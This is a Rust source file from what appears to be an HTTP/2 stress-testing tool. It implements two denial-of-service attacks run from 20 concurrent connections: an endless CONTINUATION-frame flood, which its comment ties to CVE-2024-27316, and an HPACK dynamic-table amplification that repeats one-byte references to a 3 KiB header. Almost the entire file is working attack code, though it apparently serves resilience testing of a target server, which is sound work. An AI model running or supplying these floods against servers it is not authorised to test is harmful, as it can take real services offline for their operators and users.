//! HTTP/2 heads without end, and ones that unfold.

use bytes::{BufMut, BytesMut};

use super::Field;
use crate::siege::http2::{
    CONTINUATION, END_HEADERS, END_STREAM, Frames, HEADERS, head_block, literal,
};

/// Connections that attack at once.
const ATTACKERS: usize = 20;

/// The longest payload of a frame.
const FRAME: usize = 16 << 10;

/// A head in pieces that never ends (CVE-2024-27316); with pieces of no bytes in every third.
pub(super) async fn continuation(field: Field) {
    let attacker = |field: Field, number: usize| async move {
        let Ok(mut frames) = Frames::open(field.server, &[], &field.tally).await else {
            return field.tally.answered("not connected");
        };
        let _reading = frames.read_on();
        let block = head_block("/create/job", "application/json");
        frames.put(HEADERS, 0, 1, &block);
        let mut piece = BytesMut::new();
        while !number.is_multiple_of(3) && piece.len() + 300 < FRAME {
            literal(&mut piece, 0, "x-more", &"v".repeat(200));
        }
        while !field.is_over() {
            let mut count = 0;
            while frames.batched() < 4 * FRAME {
                frames.put(CONTINUATION, 0, 1, &piece);
                count += 1;
            }
            if frames.flush().await.is_err() {
                return field.tally.answered("closed by the server");
            }
            field.tally.sent(count, 0);
        }
    };
    field.again_and_again(ATTACKERS, attacker).await;
}

/// A header of 3 KiB once, and then a byte for each time that it comes again.
pub(super) async fn lists(field: Field) {
    let attacker = |field: Field, _| async move {
        let Ok(mut frames) = Frames::open(field.server, &[], &field.tally).await else {
            return field.tally.answered("not connected");
        };
        let _reading = frames.read_on();
        let mut first = head_block("/show/system/status", "application/json");
        literal(&mut first, 0x40, "x-big", &"v".repeat(3000));
        frames.put(HEADERS, END_HEADERS | END_STREAM, 1, &first);
        let mut bomb = head_block("/show/system/status", "application/json");
        // The newest entry of the dynamic table.
        bomb.put_bytes(0x80 | 62, FRAME - bomb.len());
        let mut stream = 3;
        while !field.is_over() && stream < 1 << 30 {
            frames.put(HEADERS, END_HEADERS | END_STREAM, stream, &bomb);
            stream += 2;
            if frames.flush().await.is_err() {
                return field.tally.answered("closed by the server");
            }
            field.tally.sent(1, 0);
        }
    };
    field.again_and_again(ATTACKERS, attacker).await;
}
